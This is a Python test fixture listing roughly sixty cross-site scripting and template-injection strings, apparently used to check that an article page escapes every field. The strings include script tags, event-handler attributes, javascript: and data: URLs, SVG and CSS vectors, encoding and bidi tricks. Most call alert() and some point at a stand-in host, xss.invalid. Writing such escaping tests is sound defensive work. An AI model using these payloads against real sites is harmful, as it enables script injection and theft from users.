"""Sixty texts that would come alive in a page that did not escape them; each of some family, all written for this test.

Whatever field of an article holds one, a page shows it as it is written: ``alert`` is what a script would call, and
``xss.invalid`` where a browser would go.
"""

from __future__ import annotations

PAYLOADS: tuple[str, ...] = (
    # tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.invalid/a.js></SCRIPT>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "</title><script>alert(3)</script>",
    "</textarea><script>alert(4)</script>",
    "</script><script>alert(5)</script>",
    "<img src=x onerror=alert(6)>",
    "<img/src=x/onerror=alert(7)//",
    '<iframe src="javascript:alert(8)"></iframe>',
    "<iframe srcdoc='<script>alert(9)</script>'></iframe>",
    '<object data="data:text/html,<script>alert(10)</script>"></object>',
    '<embed src="javascript:alert(11)">',
    "<body onload=alert(12)>",
    "<details open ontoggle=alert(13)>",
    "<video><source onerror=alert(14)></video>",
    "<audio src=x onerror=alert(15)>",
    "<input autofocus onfocus=alert(16)>",
    "<select autofocus onfocus=alert(17)><option>x</select>",
    "<marquee onstart=alert(18)>x</marquee>",
    '<form action="javascript:alert(19)"><button>go</button></form>',
    "<button formaction=javascript:alert(20)>go</button>",
    '<meta http-equiv="refresh" content="0;url=https://xss.invalid/">',
    '<base href="https://xss.invalid/">',
    '<link rel="stylesheet" href="https://xss.invalid/a.css">',
    "<template><script>alert(21)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(22)>'>",
    "<!--><script>alert(23)</script-->",
    "<![CDATA[<script>alert(24)</script>]]>",
    "<?xml version='1.0'?><script>alert(25)</script>",
    "<plaintext><script>alert(26)</script>",
    # attributes
    '" onmouseover="alert(27)',
    "' onfocus='alert(28)' autofocus='",
    '"><svg onload=alert(29)>',
    "'><img src=x onerror=alert(30)>",
    "` onmouseover=alert(31) `",
    "x onmouseover=alert(32)",
    '" style="background:url(https://xss.invalid/)" x="',
    # addresses
    "javascript:alert(33)",
    "JaVaScRiPt:alert(34)",
    "java\tscript:alert(35)",
    " javascript:alert(36)",
    "javascript&#58;alert(37)",
    "data:text/html,<script>alert(38)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgzOSk8L3NjcmlwdD4=",
    "vbscript:msgbox(40)",
    "//xss.invalid/%0d%0aSet-Cookie:x=1",
    "https://xss.invalid/?x=<script>alert(41)</script>",
    # SVG and MathML
    "<svg><script>alert(42)</script></svg>",
    "<svg><animate onbegin=alert(43) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(44)"><text y=20>x</text></a></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(45)></iframe></foreignObject></svg>",
    '<math><mtext><img src=x onerror="alert(46)"></mtext></math>',
    # style
    "<style>@import 'https://xss.invalid/a.css';</style>",
    "<style>*{background:url(https://xss.invalid/)}</style>",
    # templates
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
    "${alert(47)}#{alert(48)}<%= 7 * 7 %>",
    # encodings
    "&lt;script&gt;alert(49)&lt;/script&gt;",
    "\uff1cscript\uff1ealert(50)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(51)+ADw-/script+AD4-",
    # directions
    "\u202e<img src=x onerror=alert(52)>\u2066\u2069",
)
